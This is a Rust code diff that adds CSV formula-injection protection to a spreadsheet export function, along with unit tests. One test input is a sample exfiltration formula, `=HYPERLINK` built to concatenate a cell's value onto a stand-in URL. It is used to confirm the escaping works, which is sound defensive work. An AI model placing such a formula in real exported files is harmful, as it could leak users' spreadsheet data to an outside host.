@@ -84,14 +84,27 @@ pub fn csv(sheet: &Sheet, mark: DecimalMark) -> ApiResult<Vec<u8>> {
     let mut w = csv::WriterBuilder::new().delimiter(delimiter).terminator(csv::Terminator::CRLF).from_writer(BOM.to_vec());
     w.write_record(sheet.columns.iter().map(|(name, _)| *name)).map_err(internal)?;
     for row in &sheet.rows {
-        let cells = row.iter().map(|c| match c {
-            Cell::Text(t) => t.clone(),
-            Cell::Number(n) => plain_number(*n, mark),
-            Cell::Empty => String::new(),
-        });
-        w.write_record(cells).map_err(internal)?;
+        w.write_record(row.iter().map(|c| csv_field(c, mark))).map_err(internal)?;
     }
     w.into_inner().map_err(internal)
+}
+
+/// A cell as a field of a CSV file, the one way every CSV of the API writes
+/// one: a number exact and bare, text through [`csv_text`].
+pub fn csv_field(cell: &Cell, mark: DecimalMark) -> String {
+    match cell {
+        Cell::Text(t) => csv_text(t),
+        Cell::Number(n) => plain_number(*n, mark),
+        Cell::Empty => String::new(),
+    }
+}
+
+/// Text that no spreadsheet opening the CSV runs as a formula (OWASP, CSV
+/// injection): text starting with `=`, `+`, `-`, `@`, a tab or a carriage
+/// return gets a `'` in front. A unit named `=HYPERLINK(…)` stays its
+/// name; figures are numbers, never text, so `-12.5` stays a number.
+pub fn csv_text(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text.to_owned() }
 }
 
 /// The sheet as an XLSX workbook.
@@ -172,6 +185,17 @@ mod tests {
         assert_eq!(dot, "\u{feff}ma,Tên,Giá trị\r\nXP,\"Xã Xuân Phú; \"\"mới\"\"\",1936.5\r\nTH,Tỉnh,\r\n");
         let comma = String::from_utf8(csv(&sheet(), DecimalMark::Comma).unwrap()).unwrap();
         assert!(comma.contains("XP;\"Xã Xuân Phú; \"\"mới\"\"\";1936,5\r\n"), "{comma}");
+    }
+
+    #[test]
+    fn text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_are_not() {
+        let formula = Cell::from("=HYPERLINK(\"http://x\"&A2,\"Thôn Ba Ngọc\")");
+        assert_eq!(csv_field(&formula, DecimalMark::Dot), "'=HYPERLINK(\"http://x\"&A2,\"Thôn Ba Ngọc\")");
+        for text in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
+            assert_eq!(csv_text(text), format!("'{text}"));
+        }
+        assert_eq!(csv_text("Thôn Ba Ngọc - 1"), "Thôn Ba Ngọc - 1");
+        assert_eq!(csv_field(&Cell::Number(Amount::from_scaled(-125_000)), DecimalMark::Comma), "-12,5");
     }
 
     #[test]
